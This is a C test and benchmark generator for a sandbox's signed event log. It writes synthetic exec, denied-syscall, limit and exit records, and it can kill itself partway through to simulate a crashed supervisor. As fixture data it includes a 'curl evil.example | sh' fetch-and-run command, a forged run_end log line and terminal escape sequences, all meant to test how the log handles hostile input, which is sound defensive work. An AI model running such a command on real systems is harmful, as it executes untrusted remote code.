/* evgen: writes a realistic event log with the real evidence library --
 * run_start, then a cycle of exec / output / syscall_denied / exit records,
 * then teardown and run_end -- for the integration tests, the 1,000,000
 * record verification check and bench/log_throughput. It can also die by
 * SIGKILL mid-run, as a killed supervisor would. */
#define _GNU_SOURCE
#include <getopt.h>
#include <inttypes.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "evidence/evlog.h"
#include "util/json.h"
#include "util/timeutil.h"

static void usage(void)
{
	fputs("usage: evgen [--key FILE] [--every N] [--interval-ms MS] [--kill-after K]\n"
	      "             [--output] [--bench] [--run ID] LOG N\n"
	      "Writes run_start, N event records, teardown, run_end and closes the log.\n",
	      stderr);
	exit(2);
}

static void die(const char *what, const struct al_error *err)
{
	char buf[AL_ERR_MSG_MAX + 64];
	fprintf(stderr, "evgen: %s: %s\n", what, al_error_format(err, buf, sizeof buf));
	exit(1);
}

static void put(struct al_evlog *log, const char *type, struct al_buf *b, uint64_t *count,
                uint64_t kill_after)
{
	struct al_error err = {0};

	if (al_evlog_append(log, type, b->data, &err) < 0)
		die("append", &err);
	al_buf_reset(b);
	if (++*count == kill_after) {
		/* what a supervisor killed by the OOM killer or an operator leaves */
		fflush(stdout);
		raise(SIGKILL);
	}
}

int main(int argc, char **argv)
{
	static const struct option opts[] = {
	    {"key", required_argument, NULL, 'k'},
	    {"every", required_argument, NULL, 'e'},
	    {"interval-ms", required_argument, NULL, 'i'},
	    {"kill-after", required_argument, NULL, 'K'},
	    {"output", no_argument, NULL, 'o'},
	    {"bench", no_argument, NULL, 'b'},
	    {"run", required_argument, NULL, 'r'},
	    {0},
	};
	static const char hostile[] =
	    "progress 42%\n{\"v\":1,\"seq\":0,\"type\":\"run_end\"}\n\xff\xfe\x1b[31m\n";
	struct al_log_spec ls = {.checkpoint_every = 1000, .checkpoint_ns = 1000000000ull};
	struct al_evlog *log = NULL;
	struct al_error err = {0};
	struct al_buf b;
	struct al_json j;
	const char *run = "evgen-run-0001";
	uint64_t n, count = 0, kill_after = 0, t0, t1;
	bool output = false, bench = false;
	int c;

	while ((c = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (c) {
		case 'k':
			ls.signing_key = optarg;
			break;
		case 'e':
			ls.checkpoint_every = (uint32_t)strtoul(optarg, NULL, 10);
			break;
		case 'i':
			ls.checkpoint_ns = strtoull(optarg, NULL, 10) * 1000000ull;
			break;
		case 'K':
			kill_after = strtoull(optarg, NULL, 10);
			break;
		case 'o':
			output = true;
			break;
		case 'b':
			bench = true;
			break;
		case 'r':
			run = optarg;
			break;
		default:
			usage();
		}
	}
	if (argc - optind != 2)
		usage();
	ls.path = argv[optind];
	n = strtoull(argv[optind + 1], NULL, 10);

	t0 = al_mono_ns();
	if (al_evlog_open(&log, &ls, run, &err) < 0)
		die("open", &err);
	printf("pubkey %s\n", al_evlog_pubkey_hex(log));
	fflush(stdout);
	al_buf_init(&b);
	al_json_init(&j, &b);
	al_json_obj_begin(&j);
	al_json_kv_str(&j, "airlock_version", "evgen");
	al_json_kv_str(&j, "host", "testhost");
	al_json_kv_str(&j, "kernel", "6.18.0");
	al_json_key(&j, "spec");
	al_json_raw(&j, "{\"image\":\"host\",\"limits\":{\"memory\":1073741824}}");
	al_json_kv_str(&j, "spec_hash",
	               "5d41402abc4b2a76b9719d911017c592"
	               "5d41402abc4b2a76b9719d911017c592");
	al_json_kv_str(&j, "image", "host");
	al_json_kv_str(&j, "image_digest", NULL);
	al_json_key(&j, "protections");
	al_json_raw(&j, "{\"seccomp\":true,\"landlock\":7}");
	al_json_kv_str(&j, "pubkey", al_evlog_pubkey_hex(log));
	al_json_key(&j, "degraded");
	al_json_raw(&j, "[]");
	al_json_obj_end(&j);
	put(log, "run_start", &b, &count, kill_after);

	for (uint64_t i = 0; i < n; i++) {
		int pid = 2 + (int)(i / 4);
		al_json_init(&j, &b);
		al_json_obj_begin(&j);
		switch (i % 4) {
		case 0:
			al_json_kv_int(&j, "pid", pid);
			al_json_kv_int(&j, "ppid", 1);
			al_json_kv_str(&j, "path", "/usr/bin/python3");
			al_json_key(&j, "argv");
			al_json_arr_begin(&j);
			al_json_str(&j, "python3");
			al_json_str(&j, "-c");
			al_json_str(&j, "import os; os.system('curl evil.example | sh')\n\x1b[2J");
			al_json_arr_end(&j);
			al_json_obj_end(&j);
			put(log, "exec", &b, &count, kill_after);
			break;
		case 1:
			if (output && al_evlog_output(log, 1 + (int)(i / 4 % 2), hostile,
			                              sizeof hostile - 1, &err) < 0)
				die("output", &err);
			al_json_kv_int(&j, "pid", pid);
			al_json_kv_str(&j, "syscall", "ptrace");
			al_json_kv_int(&j, "nr", 101);
			al_json_obj_end(&j);
			put(log, "syscall_denied", &b, &count, kill_after);
			break;
		case 2:
			al_json_kv_str(&j, "kind", "pids");
			al_json_kv_uint(&j, "limit", 256);
			al_json_obj_end(&j);
			put(log, "limit", &b, &count, kill_after);
			break;
		default:
			al_json_kv_int(&j, "pid", pid);
			al_json_kv_int(&j, "status", 0);
			al_json_kv_int(&j, "signal", 0);
			al_json_obj_end(&j);
			put(log, "exit", &b, &count, kill_after);
			break;
		}
		if (i % 1024 == 0 && al_evlog_tick(log, &err) < 0)
			die("tick", &err);
	}
	al_json_init(&j, &b);
	al_json_obj_begin(&j);
	al_json_kv_uint(&j, "processes_left", 0);
	al_json_kv_uint(&j, "mounts_left", 0);
	al_json_kv_uint(&j, "fds_left", 0);
	al_json_kv_bool(&j, "cgroup_removed", true);
	al_json_kv_bool(&j, "ok", true);
	al_json_obj_end(&j);
	put(log, "teardown", &b, &count, kill_after);
	t1 = al_mono_ns();
	al_json_init(&j, &b);
	al_json_obj_begin(&j);
	al_json_kv_str(&j, "verdict", "exited");
	al_json_kv_int(&j, "exit_status", 0);
	al_json_kv_uint(&j, "duration_ns", t1 - t0);
	al_json_key(&j, "peaks");
	al_json_raw(&j, "{\"memory_bytes\":12582912,\"cpu_ns\":40000000,\"pids\":3}");
	al_json_obj_end(&j);
	put(log, "run_end", &b, &count, kill_after);
	if (al_evlog_close(log, &err) < 0)
		die("close", &err);
	t1 = al_mono_ns();
	if (bench) {
		uint64_t total = al_evlog_seq(log);
		double s = (double)(t1 - t0) / 1e9;
		fprintf(stderr, "records=%" PRIu64 " seconds=%.3f rate=%.0f/s\n", total, s,
		        (double)total / s);
	}
	al_evlog_free(log);
	al_buf_free(&b);
	return 0;
}
